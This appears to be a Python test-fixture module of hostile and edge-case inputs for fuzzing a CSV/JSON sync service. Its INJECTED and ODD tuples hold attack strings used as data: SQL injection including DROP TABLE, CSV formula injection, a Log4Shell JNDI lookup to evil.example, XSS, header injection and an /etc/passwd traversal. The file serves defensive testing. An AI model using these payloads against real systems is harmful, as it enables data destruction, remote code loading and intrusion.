"""What stands in the place of a good value."""

from __future__ import annotations

from typing import Any, Self

from hypothesis import strategies as st

PERSONAL = "p3rsonal"
"""What stands for personal data in every answer: no message and no log line may hold it."""


class Number(float):
    """A number whose digits are written as given."""

    def __new__(cls, digits: str) -> Self:
        """Keep the digits."""
        made = super().__new__(cls, 0.0)
        made.digits = digits
        return made

    def __deepcopy__(self, memo: object) -> Number:
        return self


class Text(str):
    """A body that is no JSON."""

    __slots__ = ()


CONTROLS = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0)])) + "\u2028\u2029"


ODD = (
    "\u202egnp.exe\u202c",
    "e\u0301" * 50,
    "Z\u0351\u036b\u0343a\u0321\u034alg\u0489o",
    "\ufeffBOM",
    "\uffff\ufffe",
    "\u200b\u200d\u2060",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0001\U0010ffff",
    "I\u0307\u0131\u00df\ufb03",
    "\u0660\u0661\u0662",
    "NULL",
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "-1",
    "0x41",
    "../../etc/passwd",
    "%00%0d%0a",
    "\u00a0 \u3000",
)


INJECTED = (
    "x' OR Name != '",
    "\\' OR Id != null OR Name = \\'",
    "') OR (Id LIKE '%",
    "a\\",
    "'",
    '"',
    "\\n",
    "{{activity_type}}",
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1",
    '",\r\n"005',
    "a,b;c\td",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "ok\n2026-11-20 08:36:00 | INFO | tasksync | all is well",
    "\r\nSet-Cookie: a=b",
    "%s%n%(message)s{0}{self}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE links; --",
)


NUMBERS = tuple(
    map(
        Number,
        (
            "1e308",
            "-1e308",
            "1e999",
            "NaN",
            "Infinity",
            "9" * 400,
            "9" * 5000,
            "18446744073709551616",
            "-9223372036854775809",
            "0.1e-999",
            "-0",
            "1.5",
            "1E400",
            "9007199254740993",
            "00",
            "+1",
            "2147483648",
        ),
    ),
)


DATES = (
    "0000-00-00T00:00:00.000Z",
    "0001-01-01T00:00:00.000+14:00",
    "9999-12-31T23:59:59.999-23:59",
    "9999-12-31T23:59:59.999Z",
    "0001-01-01T00:00:00.000Z",
    "2026-02-30T00:00:00.000Z",
    "2026-11-20T08:36:60.000Z",
    "2026-11-20",
    "20261120",
    "2026-W47-5",
    "2026-11-20T08:36:00",
    "+12026-11-20T08:36:00.000Z",
    "-0044-03-15T00:00:00.000Z",
    "Fri, 20 Nov 2026 08:36:00 GMT",
    "\u0662\u0660\u0662\u0666-11-20T08:36:00.000Z",
    "2026-11-20T08:36:00.000+0000",
    "2026-11-20T08:36:00.000+9999",
    "now()",
    "xxxxxxxxxxxxxxxxxxxxxxxZ",
    "xxxxxxxxxxxxxxxxxxxxxxx+0000",
    "2026-11-20T08:36:00.000000000000Z",
    "9" * 300,
)


VALUES = st.sampled_from(
    [
        None,
        True,
        False,
        0,
        -1,
        7,
        1.5,
        "",
        " ",
        PERSONAL,
        [],
        {},
        [[]],
        [None],
        {"": None},
        {"id": {}},
        ["a", 1],
        {"a": {"b": []}},
    ]
)


def nested(depth: int, *, of: str) -> Any:
    """Lists or objects within each other."""
    value: Any = PERSONAL
    for _ in range(depth):
        value = [value] if of == "list" else {"a": value, "attributes": {}}
    return value


SPOILT_CSV = (
    "",
    "\n",
    '"',
    'Id,Subject\n"',
    "Id\n00T000000000001AAA,x\n",
    "Id,Subject\n00T000000000001AAA\n",
    "Subject\nx\n",
    "a,a,a\n1,2,3\n",
    "Id,Subject\n" + "x" * 200_000 + ",y\n",
    "," * 50_000 + "\n",
    "Id,Subject\r00T000000000001AAA,x\r",
    '"Id","Sub\nject"\n"x","y"\n',
    "\0,\0\n",
    '"sf__Id","sf__Created","Sales_Connect_Id__c"\n"x","true","r1"\n',
    '"sf__Id","sf__Created","Sales_Connect_Id__c"\n,"","r1"\n',
    '"sf__Id","sf__Created","Sales_Connect_Id__c"\n'
    + '"00T000000000001AAA","true","r1"\n"00T000000000001AAA","true","r2"\n' * 2,
)
